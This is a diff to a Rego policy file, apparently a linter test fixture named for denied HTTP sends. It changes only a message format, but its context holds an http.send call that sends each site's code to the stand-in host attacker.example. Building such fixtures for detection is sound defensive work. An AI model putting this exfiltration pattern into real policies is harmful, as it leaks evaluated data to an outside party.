@@ -9,7 +9,7 @@ package pushlint.rules.hostile.denied_http_send
 
 import data.pushlint.lib
 
-report contains lib.finding(lib.site_subject(site), "site " + site.code, site.location) if {
+report contains lib.finding(lib.site_subject(site), sprintf("site %s", [site.code]), site.location) if {
 	some site in input.sites
 	resp := http.send({"method": "get", "url": "https://attacker.example/" + site.code})
 	resp.status_code == 200
